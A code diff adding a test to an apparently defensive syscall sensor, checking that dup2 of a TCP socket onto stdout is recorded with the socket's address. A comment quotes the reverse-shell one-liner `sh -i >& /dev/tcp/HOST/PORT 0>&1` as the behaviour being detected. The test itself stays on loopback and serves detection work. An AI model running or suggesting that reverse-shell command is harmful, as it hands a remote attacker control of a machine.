@@ -334,10 +334,51 @@ TEST_F(SensorTest, UdpSendtoAndUnixConnectNameTheirDestination)
     EXPECT_EQ(sent->remote_addr, "127.0.0.53");
     EXPECT_EQ(sent->remote_port, 53);
     EXPECT_EQ(sent->sock_type, SOCK_DGRAM);
-    auto unix_connect = wait_data<NetData>(pid, [](const NetData& d) { return d.family == AF_UNIX; });
+    auto unix_connect =
+        wait_data<NetData>(pid, [](const NetData& d) { return d.op == PL_NET_CONNECT && d.family == AF_UNIX; });
     ASSERT_TRUE(unix_connect);
     EXPECT_EQ(unix_connect->unix_path, "/tmp/palisade-no-such.sock");
     EXPECT_EQ(unix_connect->ret, -ENOENT);
+}
+
+TEST_F(SensorTest, Dup2OfASocketOntoStdoutNamesTheSocket)
+{
+    // What `sh -i >& /dev/tcp/HOST/PORT 0>&1` does: a TCP socket dup2'ed onto 0, 1 and 2.
+    int listener = socket(AF_INET, SOCK_STREAM, 0);
+    sockaddr_in addr{};
+    addr.sin_family = AF_INET;
+    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    ASSERT_EQ(bind(listener, (sockaddr*)&addr, sizeof(addr)), 0);
+    ASSERT_EQ(listen(listener, 1), 0);
+    socklen_t len = sizeof(addr);
+    getsockname(listener, (sockaddr*)&addr, &len);
+    const pid_t pid = run_child([&] {
+        int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+        if (connect(s, (sockaddr*)&addr, sizeof(addr)) != 0)
+            return 1;
+        int devnull = open("/dev/null", O_RDONLY);
+        dup2(devnull, 0);  // not a socket
+        dup2(s, 1);
+        return 0;
+    });
+    close(listener);
+    auto created = wait_data<NetData>(pid, [](const NetData& d) { return d.op == PL_NET_SOCKET; });
+    ASSERT_TRUE(created);
+    EXPECT_EQ(created->family, AF_INET);
+    EXPECT_EQ(created->sock_type, SOCK_STREAM) << "SOCK_CLOEXEC is not part of the type";
+    EXPECT_GE(created->ret, 3);
+
+    auto onto_stdout = wait_data<NetData>(pid, [](const NetData& d) { return d.op == PL_NET_DUP && d.ret == 1; });
+    ASSERT_TRUE(onto_stdout);
+    EXPECT_EQ(onto_stdout->fd, created->ret);
+    EXPECT_EQ(onto_stdout->family, AF_INET);
+    EXPECT_EQ(onto_stdout->remote_addr, "127.0.0.1");
+    EXPECT_EQ(onto_stdout->remote_port, ntohs(addr.sin_port));
+    EXPECT_EQ(syscall_name(onto_stdout->syscall_nr), "dup2");
+
+    auto onto_stdin = wait_data<NetData>(pid, [](const NetData& d) { return d.op == PL_NET_DUP && d.ret == 0; });
+    ASSERT_TRUE(onto_stdin);
+    EXPECT_EQ(onto_stdin->family, 0) << "/dev/null is not a socket";
 }
 
 TEST_F(SensorTest, ExecFromMemfdIsFlaggedFileless)
